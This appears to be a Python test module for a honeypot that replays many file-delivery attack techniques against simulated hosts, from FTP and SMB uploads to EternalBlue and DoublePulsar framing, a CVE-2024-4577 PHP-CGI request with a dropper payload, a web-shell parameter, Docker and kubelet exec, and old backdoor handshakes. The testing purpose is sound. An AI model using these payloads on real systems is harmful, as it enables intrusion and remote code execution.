"""Files that come as files: over what was made to carry them, and over what attackers use for it."""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import io
import json
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from urllib.parse import quote_from_bytes

from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols._places import LOOKED_BYTES_MAX
from eudaemon.protocols.kubelet.node import node_of
from eudaemon.protocols.mqtt.packets import CONNECT, PUBLISH, packet
from eudaemon.protocols.mqtt.packets import text as mqtt_text
from eudaemon.protocols.smb import smb2
from eudaemon.protocols.ssh import sftp
from eudaemon.protocols.ssh.fields import Fields, message, number, string
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from protocols import adb_client, rdp_client, smb_client, ssh_client
from vectors.shells import steps
from vectors.vector import Attack, Line, Vector

HOST = Host.from_seed(Seed(b"test"))
UEL = b"\x1b%-12345X"

# --- FTP and TFTP ---------------------------------------------------------------------------------------


def ftp(*, active: bool = False, kind: bytes = b"I", before: int = 0) -> Callable[[Attack, bytes], None]:
    """STOR; of `before` thousandths of it the first part comes in a transfer of its own, and REST goes on."""

    def bring(attack: Attack, data: bytes) -> None:
        line = attack.table("ftp", host=HOST, port=21)
        line.say(b"USER anonymous\r\nPASS a@b\r\nTYPE %s\r\n" % kind)
        first = len(data) * before // 1000
        for command, part in ((b"STOR x", data[:first]), (b"REST %d\r\nSTOR x" % first, data[first:])):
            if not part and command == b"STOR x":
                continue
            line.say((b"PORT 198,51,100,7,195,80\r\n" if active else b"PASV\r\n") + command + b"\r\n")
            line.join_side()
            line.say_side(part)
            line.end_side()

    return bring


def tftp(block_bytes: int) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        line = attack.table("tftp", host=HOST, transport="udp", port=69)
        line.say(b"\0\2bot\0octet\0" + (b"blksize\0%d\0" % block_bytes if block_bytes != 512 else b""))
        for at in range(0, len(data) + 1, block_bytes):
            block = struct.pack("!HH", 3, (at // block_bytes + 1) & 0xFFFF) + data[at : at + block_bytes]
            line.say(block)
            line.forget()
            if at % 3 == 0:
                line.say(block)  # as if its acknowledgement was lost
                line.forget()

    return bring


# --- SSH ------------------------------------------------------------------------------------------------


def _channel(attack: Attack, kind: bytes, *what: bytes) -> tuple[ssh_client.Client, Callable[[bytes], None]]:
    client = ssh_client.logged_in(attack.table("ssh", host=HOST))
    channel = client.open_session()
    client.request(channel, kind, *map(string, what))

    def give(data: bytes) -> None:
        for at in range(0, len(data), 8000):  # within the window
            client.data(channel, data[at : at + 8000])
            client.forget()

    return client, give


def sftp_put(*, backwards: bool = False) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        client, give = _channel(attack, b"subsystem", b"sftp")
        give(string(message(sftp.INIT, number(3))))
        client.data(0, string(message(sftp.OPEN, number(1), string(b"/tmp/x"), number(2 | 8 | 16), number(0))))
        handle = string(Fields(client.output()[4:], 5).string())
        at, pieces = 0, []
        for piece in steps(data, attack.dice, 32_000):
            pieces.append((at, piece))
            at += len(piece)
        for at, piece in reversed(pieces) if backwards else pieces:
            give(string(message(sftp.WRITE, number(2), handle, at.to_bytes(8, "big"), string(piece))))
        give(string(message(sftp.CLOSE, number(3), handle)))

    return bring


def scp(attack: Attack, data: bytes) -> None:
    _, give = _channel(attack, b"exec", b"scp -t /tmp")
    give(b"C0755 %d bot\n" % len(data))
    give(data + b"\0")


def ssh_input(command: bytes, code: Callable[[bytes], bytes] = bytes) -> Callable[[Attack, bytes], None]:
    """What a command reads: `cat file | ssh host 'cat > x'`."""

    def bring(attack: Attack, data: bytes) -> None:
        client, give = _channel(attack, b"exec", command)
        give(code(data))
        client.end(0)

    return bring


# --- ADB ------------------------------------------------------------------------------------------------


def _adb(attack: Attack) -> adb_client.Client:
    return adb_client.Client(table=attack.table("adb", host=adb_client.HOSTS["9"], port=5555)).connect()


def adb_push(attack: Attack, data: bytes) -> None:
    client = _adb(attack)
    stream = client.open(b"sync:")
    for piece in steps(adb_client.sent_file(b"/data/local/tmp/x", data), attack.dice, 64_000):
        client.write(stream, piece, 65_536)
        client.came[stream] = b""
        client.table.forget()
        client._read = 0


def adb_exec(destination: bytes) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        client = _adb(attack)
        stream = client.open(destination % len(data) if b"%d" in destination else destination)
        client.write(stream, data)
        if stream not in client.over:
            client.close(stream)

    return bring


# --- Windows --------------------------------------------------------------------------------------------


def smb2_write(*, backwards: bool = False) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        peer = smb_client.Client2(attack.table("smb", host=HOST, port=445))
        assert peer.enter("Administrator", "123456") == 0
        assert peer.connect("\\\\192.0.2.1\\C$") == 0
        _, file = peer.create("Windows\\x.exe")
        at, pieces = 0, []
        for piece in steps(data, attack.dice, smb2.IO_BYTES_MAX):
            pieces.append((at, piece))
            at += len(piece)
        for at, piece in reversed(pieces) if backwards else pieces:
            assert peer.write(file, piece, at) == 0
        assert peer.close(file) == 0

    return bring


def smb1_write(attack: Attack, data: bytes) -> None:
    peer = smb_client.Client1(attack.table("smb", host=HOST, port=445))
    assert peer.enter("Administrator", "123456") == 0
    assert peer.connect("\\\\192.0.2.1\\C$") == 0
    file = peer.create("Windows\\x.exe")
    at = 0
    for piece in steps(data, attack.dice, 60_000):
        assert peer.write(file, piece, at) == 0
        at += len(piece)
    assert peer.close(file) == 0


def _with_implant() -> Host:
    hosts = (Host.from_seed(Seed(b"%d" % n)) for n in range(64))
    return next(host for host in hosts if host.seed.number("doublepulsar", 2) == 0)


def pulsar(attack: Attack, data: bytes) -> None:
    line = attack.table("smb", host=_with_implant(), port=445)
    for said in smb_client.OPENING1:
        line.say(said)
    answer = smb_client.head1(smb_client.unframed(line.say(smb_client.pulsar(0x23)))[0])
    for said in smb_client.pieces(data, int.from_bytes(answer[5][:4], "little")):
        line.say(said)
        line.forget()


def eternalblue(attack: Attack, data: bytes) -> None:
    line = attack.table("smb", host=HOST, port=445)
    for said in (*smb_client.OPENING1, *smb_client.blue(data)):
        line.say(said)


def spooler(attack: Attack, data: bytes) -> None:
    """MS10-061: a document that is printed into a file."""
    from protocols.test__dcerpc import SPOOLSS, pointed, wide

    peer = smb_client.Client2(attack.table("smb", host=HOST, port=445))
    assert peer.enter("Administrator", "123456") == 0
    assert peer.connect("\\\\192.0.2.1\\IPC$") == 0
    _, pipe = peer.create("spoolss")
    peer.call(pipe, smb_client.bind(SPOOLSS, 1))
    handle = peer.call(pipe, smb_client.request(69, pointed("\\\\x\\Printer") + bytes(4)))[1][24:44]
    info = struct.pack("<IIIIII", 1, 1, 0x20000, 0x20004, 0x20008, 0) + wide("job") + wide("C:\\x.exe")
    peer.call(pipe, smb_client.request(17, handle + info))
    for piece in steps(data, attack.dice, 60_000):
        stub = handle + struct.pack("<I", len(piece)) + piece + bytes(-len(piece) % 4)
        peer.call(pipe, smb_client.request(19, stub, fragment=4000))
    peer.call(pipe, smb_client.request(29, handle))


# --- HTTP and what speaks it ----------------------------------------------------------------------------


def request(head: bytes, body: bytes) -> bytes:
    return b"%s HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n%s" % (head, len(body), body)


def http_put(attack: Attack, data: bytes) -> None:
    attack.table("http").say(request(b"PUT /x.bin", data))


def http_chunked(attack: Attack, data: bytes) -> None:
    chunks = b"".join(b"%x;a=b\r\n%b\r\n" % (len(piece), piece) for piece in steps(data, attack.dice, 60_000))
    attack.table("http").say(b"PUT /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%b0\r\nA: b\r\n\r\n" % chunks)


def http_stream(attack: Attack, data: bytes) -> None:
    head = b"POST /upload.cgi HTTP/1.1\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
    attack.table("http").say(head % len(data) + data)


def http_gzip(attack: Attack, data: bytes) -> None:
    body = gzip.compress(data, 1)
    head = b"PUT /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    attack.table("http").say(head % len(body) + body)


def http_form(attack: Attack, data: bytes) -> None:
    part = b'--Xx\r\nContent-Disposition: form-data; name="f"; filename="x.elf"\r\nContent-Type: a/b\r\n\r\n'
    body = b'--Xx\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n' + part + data + b"\r\n--Xx--\r\n"
    head = b"POST /u HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=Xx\r\nContent-Length: %d\r\n\r\n"
    attack.table("http").say(head % len(body) + body)


def in_php(data: bytes) -> bytes:
    return b"<?php file_put_contents('/tmp/x', base64_decode('%s'));system('/tmp/x');?>" % base64.b64encode(data)


def php(attack: Attack, data: bytes) -> None:
    """A program in PHP in a body (CVE-2024-4577)."""
    path = b"POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"
    attack.table("http").say(request(path, in_php(data)))


def parameter(attack: Attack, data: bytes) -> None:
    """A program in PHP in a parameter, for a web shell."""
    body = b"cmd=" + quote_from_bytes(in_php(data)).encode()
    head = b"POST /shell.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n"
    attack.table("http").say(head % len(body) + body)


def of_a_parameter(data: bytes) -> bytes:
    """What is kept of it: the program, or the whole body where that is longer than what is looked at."""
    body = b"cmd=" + quote_from_bytes(in_php(data)).encode()
    return in_php(data) if len(body) <= LOOKED_BYTES_MAX else body


def tar(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("bot")
        entry.size, entry.mode = len(data), 0o755
        archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def _ask(line: Line, path: bytes, body: dict[str, object]) -> bytes:
    said = line.say(request(b"POST " + path, json.dumps(body).encode()))
    line.wait(0.5)
    return said


def _container(attack: Attack, **more: object) -> tuple[Line, bytes]:
    line = attack.table("docker", host=HOST, port=2375, memory=Memory())
    _ask(line, b"/images/create?fromImage=alpine", {})
    said = _ask(line, b"/containers/create", {"Image": "alpine", "Cmd": ["sh"], **more})
    return line, json.loads(said.partition(b"\r\n\r\n")[2])["Id"].encode()


def docker_archive(code: Callable[[bytes], bytes] = bytes) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        line, name = _container(attack)
        line.say(request(b"PUT /containers/%s/archive?path=/tmp" % name, code(tar(data))))

    return bring


def docker_build(attack: Attack, data: bytes) -> None:
    attack.table("docker", host=HOST, port=2375, memory=Memory()).say(request(b"POST /build?t=x", tar(data)))


def docker_load(attack: Attack, data: bytes) -> None:
    attack.table("docker", host=HOST, port=2375, memory=Memory()).say(request(b"POST /images/load", data))


def docker_exec(attack: Attack, data: bytes) -> None:
    line, name = _container(attack)
    asked = {"Cmd": ["sh", "-c", "cat > /tmp/x"], "AttachStdin": True, "AttachStdout": True}
    made = json.loads(_ask(line, b"/containers/%s/exec" % name, asked).partition(b"\r\n\r\n")[2])["Id"].encode()
    _ask(line, b"/exec/%s/start" % made, {"Detach": False})
    for piece in steps(data, attack.dice, 60_000):
        line.say(piece)
    line.tell(HalfClosed(line.at_s))


def kubelet_exec(attack: Attack, data: bytes) -> None:
    from protocols.test_kubelet import UPGRADE, masked

    pod = node_of(HOST).pods[0]
    line = attack.table("kubelet", host=HOST, port=10250, tls=True)
    place = f"/exec/{pod.namespace}/{pod.name}/{pod.container}?command=sh&command=-c&command=cat+%3E+/tmp/x&input=1"
    line.say(f"GET {place} HTTP/1.1\r\nHost: a\r\n{UPGRADE}\r\n".encode())
    line.wait(0.1)
    for piece in steps(data, attack.dice, 60_000):
        line.say(masked(b"\0" + piece))
    line.tell(HalfClosed(line.at_s))


def jenkins(path: bytes, body: Callable[[bytes], bytes]) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        attack.table("jenkins", host=HOST, port=8080).say(request(b"POST " + path, body(data)))

    return bring


def proxied(attack: Attack, data: bytes) -> None:
    attack.table("proxy", host=HOST, port=3128).say(request(b"POST http://192.0.2.9/x", data))


def in_java(data: bytes) -> bytes:
    return b"java.lang.Runtime.getRuntime().exec('id');//" + data


def elasticsearch(attack: Attack, data: bytes) -> None:
    """A script in a search (CVE-2014-3120)."""
    asked = {"size": 1, "script_fields": {"a": {"script": in_java(data).decode()}}}
    attack.table("elasticsearch", host=HOST, port=9200).say(request(b"POST /_search", json.dumps(asked).encode()))


def ipp(attack: Attack, data: bytes) -> None:
    from protocols.test_ipp import message as ipp_message
    from protocols.test_ipp import posted

    attack.table("ipp", host=HOST, port=631).say(posted(ipp_message(2, data=data)))


def pack(data: bytes) -> bytes:
    """A pack of git with one blob (gitformat-pack)."""
    left, head = len(data) >> 4, bytearray((0x30 | len(data) & 15,))
    while left:
        head[-1] |= 0x80
        head.append(left & 0x7F)
        left >>= 7
    whole = b"PACK" + struct.pack(">II", 2, 1) + head + zlib.compress(data)
    return whole + hashlib.sha1(whole, usedforsecurity=False).digest()


def git(attack: Attack, data: bytes) -> None:
    """A push."""
    from protocols.test_git import HEAD, NEW, THERE, line

    table = attack.table("git", host=HOST, port=9418)
    table.say(line(f"git-receive-pack /srv/{THERE}.git\0host=192.0.2.1\0"))
    table.say(line(f"{HEAD} {NEW} refs/heads/master\0 report-status") + b"0000" + pack(data))


def smart_install(attack: Attack, data: bytes) -> None:
    """An initialisation that is too long (CVE-2018-0171)."""
    attack.table("smartinstall", host=HOST, port=4786).say(struct.pack(">IIII", 1, 1, 7, len(data)) + data)


def second_stage(room: str) -> Callable[[Attack, bytes], None]:
    """Code where a shell stands open: what a first stage of two would have read."""

    def bring(attack: Attack, data: bytes) -> None:
        attack.table(room, host=HOST).say(data)

    return bring


# --- mail, messages, printers ---------------------------------------------------------------------------


def smtp(attack: Attack, data: bytes) -> None:
    line = attack.table("smtp", host=HOST, port=25)
    line.say(b"EHLO a\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n")
    line.say((b"\n" + data).replace(b"\n.", b"\n..")[1:] + b".\r\n")


def attached(data: bytes) -> bytes:
    head = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head + base64.encodebytes(data).replace(b"\n", b"\r\n")


def imap(attack: Attack, data: bytes) -> None:
    line = attack.table("imap", host=HOST, port=143)
    line.say(b"1 LOGIN root root\r\n2 APPEND INBOX {%d}\r\n" % len(data))
    line.say(data + b"\r\n")


def mqtt(quality: int) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        line = attack.table("mqtt", host=HOST, port=1883)
        line.say(packet(CONNECT, mqtt_text(b"MQTT") + b"\x04\x02\0\x3c" + mqtt_text(b"bot")))
        line.say(packet(PUBLISH, mqtt_text(b"a/b") + (b"\0\1" if quality else b"") + data, quality << 1))

    return bring


def printer(before: bytes, after: bytes) -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        line = attack.table("printer", host=HOST, port=9100)
        line.say((before % len(data) if b"%d" in before else before) + data + after)

    return bring


# --- doors, caches, whatever comes ----------------------------------------------------------------------


def backdoor(before: Callable[[int], bytes], after: bytes = b"") -> Callable[[Attack, bytes], None]:
    def bring(attack: Attack, data: bytes) -> None:
        attack.table("backdoor", host=HOST).say(before(len(data)) + data + after)

    return bring


BAGLE = b"\x43\xff\xff\xff000\x01\x0a\x28\x91\xa1\x2b\xe6\x60\x2f\x32\x8f\x60\x15\x1a\x20\x1a"


def memcached(attack: Attack, data: bytes) -> None:
    line = attack.table("memcached", host=HOST, port=11211)
    line.say(b"set bot 0 0 %d\r\n%s\r\n" % (len(data), data))


def memcached_binary(attack: Attack, data: bytes) -> None:
    line = attack.table("memcached", host=HOST, port=11211)
    line.say(struct.pack(">BBHBBHIIQ", 0x80, 1, 3, 8, 0, 0, 11 + len(data), 42, 0) + bytes(8) + b"bot" + data)


def memcached_datagram(attack: Attack, data: bytes) -> None:
    line = attack.table("memcached", host=HOST, port=11211, transport="udp")
    line.say(struct.pack(">HHHH", 7, 0, 1, 0) + b"set bot 0 0 %d\r\n%s\r\n" % (len(data), data))


def catchall(attack: Attack, data: bytes) -> None:
    attack.table("catchall").say(data)


def catchall_datagrams(attack: Attack, data: bytes) -> None:
    line = attack.table("catchall", transport="udp")
    for piece in steps(data, attack.dice, 60_000):
        line.say(piece)


def clipboard(attack: Attack, data: bytes) -> None:
    from protocols.test_every_room import vnc_login

    line = attack.table("vnc", host=HOST, port=5900)
    line.say(b"RFB 003.008\n")
    for said in (*vnc_login(), b"\1"):
        line.say(said)
    line.say(struct.pack(">BxxxI", 6, len(data)) + data)


def bluekeep(attack: Attack, data: bytes) -> None:
    line = attack.table("rdp", host=HOST, port=3389)
    line.say(rdp_client.request(b"a", 0))
    line.say(rdp_client.connect("rdpdr", "MS_T120") + rdp_client.ERECT + rdp_client.ATTACH)
    for piece in steps(data, attack.dice, 8000):
        line.say(rdp_client.send(1005, piece))


def rtsp(attack: Attack, data: bytes) -> None:
    line = attack.table("rtsp", host=HOST, port=554)
    line.say(b"DESCRIBE rtsp://a/ RTSP/1.0\r\nCSeq: 1\r\nAuthorization: %s\r\n\r\n" % data)


def rpc(attack: Attack, data: bytes) -> None:
    """A call of DCOM's that nobody here understands, at the endpoint mapper."""
    line = attack.table("epmap", host=HOST, port=135)
    line.say(smb_client.bind("000001a0-0000-0000-c000-000000000046", 0))
    line.say(smb_client.request(4, data, fragment=4000))


# --- compilers, brokers and machines of Java's -----------------------------------------------------------


def distcc(attack: Attack, data: bytes) -> None:
    """What is to be compiled."""
    words = b"".join(b"ARGV%08x%s" % (len(word), word) for word in (b"cc", b"-c", b"a.c"))
    attack.table("distcc", host=HOST, port=3632).say(b"DIST00000001ARGC00000003%sDOTI%08x%s" % (words, len(data), data))


def rocketmq(attack: Attack, data: bytes) -> None:
    """A configuration, as a name server is to write it to a file."""
    head = b'{"code":318,"flag":0,"opaque":1}'
    sizes = (4 + len(head) + len(data)).to_bytes(4, "big") + len(head).to_bytes(4, "big")
    attack.table("rocketmq", host=HOST, port=9876).say(sizes + head + data)


def jdwp(attack: Attack, data: bytes) -> None:
    """A class that is to be defined: an array of bytes, put together piece by piece."""
    line = attack.table("jdwp", host=HOST, port=5005)

    def ask(group: int, command: int, asked: bytes) -> bytes:
        line.forget()
        line.say(struct.pack(">IIBBB", 11 + len(asked), 1, 0, group, command) + asked)
        return line.sent[11:]

    line.say(b"JDWP-Handshake")
    kind = ask(1, 2, b"\0\0\0\2[B")[5:13]
    array = ask(4, 1, kind + len(data).to_bytes(4, "big"))[1:9]
    for at in range(0, len(data), 500_000):
        piece = data[at : at + 500_000]
        ask(13, 3, array + at.to_bytes(4, "big") + len(piece).to_bytes(4, "big") + piece)


def in_t3(data: bytes) -> bytes:
    """Return a message of T3's with an object in it."""
    return bytes(19) + b"\xac\xed\0\5" + data


def t3(attack: Attack, data: bytes) -> None:
    line = attack.table("java", host=HOST, port=7001)
    line.say(b"t3 12.2.1\nAS:255\nHL:19\n\n")
    message = in_t3(data)
    line.say((4 + len(message)).to_bytes(4, "big") + message)


def in_call(data: bytes) -> bytes:
    """Return a call of RMI's, without the letter that says so."""
    return b"\xac\xed\0\5\x77\x22" + bytes(34) + data


def rmi(attack: Attack, data: bytes) -> None:
    line = attack.table("java", host=HOST, port=1099)
    line.say(b"JRMI\0\2K")
    line.say(b"\0\1a\0\0\0\0")
    line.say(b"P" + in_call(data))


def rows() -> Iterator[Vector]:
    """Yield the rows."""
    yield Vector("ftp", "STOR, passive", ftp())
    yield Vector("ftp", "STOR, active", ftp(active=True))
    yield Vector("ftp", "STOR, TYPE A", ftp(kind=b"A"))
    yield Vector("ftp", "STOR, REST, STOR", ftp(before=400))
    yield Vector("tftp", "WRQ, blocks of 512", tftp(512), 0, 1_500_000, "tried in larger blocks")
    yield Vector("tftp", "WRQ, blksize 1428", tftp(1428))
    yield Vector("tftp", "WRQ, blksize 65464", tftp(65_464), broken_bytes=140_000)
    yield Vector("ssh", "SFTP WRITE", sftp_put())
    yield Vector("ssh", "SFTP WRITE, last piece first", sftp_put(backwards=True), broken="with gaps")
    yield Vector("ssh", "scp -t", scp)
    yield Vector("ssh", "cat > file, stdin", ssh_input(b"cat > /tmp/x"), 1)
    yield Vector("ssh", "dd of=, stdin", ssh_input(b"dd of=/tmp/x bs=4096"), 1)
    yield Vector("ssh", "base64 -d >, stdin", ssh_input(b"base64 -d > /tmp/x", base64.encodebytes), 1)
    yield Vector("ssh", "tar x, stdin", ssh_input(b"tar xf - -C /tmp", tar), 1)
    yield Vector("ssh", "tar xz, stdin", ssh_input(b"cd /tmp; tar xz", lambda data: gzip.compress(tar(data), 1)), 1)
    yield Vector("ssh", "gunzip >, stdin", ssh_input(b"gunzip > /tmp/x", lambda data: gzip.compress(data, 1)), 1)
    yield Vector("ssh", "bunzip2 >, stdin", ssh_input(b"bunzip2 > /tmp/x", bz2.compress), 1, form=bz2.compress)
    yield Vector("adb", "sync SEND", adb_push)
    yield Vector("adb", "exec:cat >", adb_exec(b"exec:cat > /data/local/tmp/x"), 1)
    yield Vector("adb", "exec:cmd package install", adb_exec(b"exec:cmd package 'install' '-S' '%d'"), 1)
    yield Vector("smb", "SMB 1 WRITE_ANDX", smb1_write)
    yield Vector("smb", "SMB 2 WRITE", smb2_write())
    yield Vector("smb", "SMB 2 WRITE, last piece first", smb2_write(backwards=True), broken="with gaps")
    yield Vector("smb", "DoublePulsar", pulsar, 1, broken="with gaps")
    yield Vector(
        "smb", "EternalBlue's transaction", eternalblue, 4095, 65_536, "larger is no EternalBlue", broken="with gaps"
    )
    yield Vector("smb", "spooler's document", spooler, 1)
    yield Vector("http", "PUT", http_put, 1)
    yield Vector("http", "PUT, chunked", http_chunked, 1)
    yield Vector("http", "PUT, gzip", http_gzip, 1, 65_536, "what is unzipped is at most 1 MiB")
    yield Vector("http", "POST application/octet-stream", http_stream, 1)
    yield Vector("http", "POST multipart/form-data", http_form, 1)
    yield Vector("http", "a program in PHP in a body", php, form=in_php)
    yield Vector("http", "a program in PHP in a parameter", parameter, form=of_a_parameter, broken="encoded")
    yield Vector("docker", "PUT archive", docker_archive())
    yield Vector("docker", "PUT archive, gzip", docker_archive(lambda data: gzip.compress(data, 1)))
    yield Vector("docker", "POST build", docker_build)
    yield Vector("docker", "POST images/load", docker_load)
    yield Vector("docker", "exec, stdin", docker_exec, 1)
    yield Vector("kubelet", "exec, stdin", kubelet_exec, 1)
    script = jenkins(b"/scriptText", lambda data: b"script=" + data)
    yield Vector("jenkins", "script console", script, 64, 65_536, "a script is at most 256 KiB", text_ends=b"=\n")
    yield Vector("jenkins", "config.xml", jenkins(b"/createItem?name=a", bytes), 1)
    yield Vector("smtp", "DATA", smtp, 64, text_ends=b"\r\n")
    yield Vector("smtp", "DATA, attachment", lambda attack, data: smtp(attack, attached(data)), form=attached)
    yield Vector("imap", "APPEND", imap)
    yield Vector("proxy", "POST", proxied, 1)
    yield Vector(
        "elasticsearch",
        "a script in a search",
        elasticsearch,
        64,
        65_536,
        "a body is read up to 256 KiB",
        text_ends=b"=",
        form=in_java,
        broken="encoded",
    )
    yield Vector("ipp", "Print-Job", ipp, 1)
    yield Vector("git", "push", git, form=pack)
    yield Vector(
        "smartinstall", "an initialisation", smart_install, 4095, 4097, "a message is at most 64 KiB", broken="nothing"
    )
    for room in ("cmd", "sh"):
        yield Vector(
            room, "a second stage", second_stage(room), 4095, 1_500_000, "a stage is at most 4 MiB", broken="as it is"
        )
    small = "what is smaller stands in the events"
    yield Vector("mqtt", "PUBLISH", mqtt(0), 256, why=small)
    yield Vector("mqtt", "PUBLISH, QoS 1", mqtt(1), 256, why=small)
    yield Vector("printer", "a bare job", printer(b"", b""), 1, broken="as it is")
    yield Vector(
        "printer",
        "a job in PJL",
        printer(UEL + b'@PJL JOB NAME="a"\r\n@PJL ENTER LANGUAGE=PCL\r\n', UEL),
        1,
        broken="as it is",
    )
    yield Vector("printer", "FSDOWNLOAD", printer(b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=%d NAME="0:/x"\r\n', UEL), 1)
    yield Vector("backdoor", "Bagle", backdoor(lambda size: BAGLE + size.to_bytes(4, "big")), 1)
    yield Vector("backdoor", "Mydoom", backdoor(lambda _: b"\x85\x13\x3c\x9e\xa2"), 1, broken="as it is")
    yield Vector("backdoor", "Optix", backdoor(lambda size: b"C:\\a.exe\r\n%d\r\n" % size), 1)
    yield Vector(
        "backdoor",
        "Kuang2",
        backdoor(lambda size: struct.pack("<4sI", b"UPDF", size) + b"C:\\a.exe\0".ljust(1016, b"\0"), b"QUIT"),
        1,
    )
    yield Vector("backdoor", "Sub7", backdoor(lambda size: b"PWDxTIDxSFT05%d" % size), 1)
    yield Vector("memcached", "set", memcached, 64, why=small)
    yield Vector("memcached", "set, binary", memcached_binary, 64, why=small)
    yield Vector("memcached", "set, UDP", memcached_datagram, 64, 4097, "one datagram", broken="nothing")
    yield Vector("distcc", "a source", distcc, 1)
    yield Vector("rocketmq", "a configuration", rocketmq, 1)
    yield Vector("jdwp", "a byte array", jdwp, 1)
    yield Vector("java", "T3", t3, form=in_t3)
    yield Vector("java", "a call over RMI", rmi, 1, form=in_call, broken="as it is")
    yield Vector("catchall", "TCP", catchall, 1, broken="as it is")
    yield Vector("catchall", "UDP", catchall_datagrams, 1, broken="as it is")
    yield Vector(
        "vnc", "clipboard", clipboard, 2000, 65_536, "a clipboard is at most 1 MiB", text_ends=b"\n", broken="encoded"
    )
    yield Vector("rdp", "BlueKeep's channel", bluekeep, 1, 65_536, "at most 1 MiB of it", never_whole=True)
    yield Vector(
        "rtsp", "Authorization", rtsp, 4095, 4097, "a head is at most 16 KiB", text_ends=b"=", broken="nothing"
    )
    yield Vector("epmap", "DCOM's call", rpc, 4095, 65_536, "a call is at most 1 MiB")
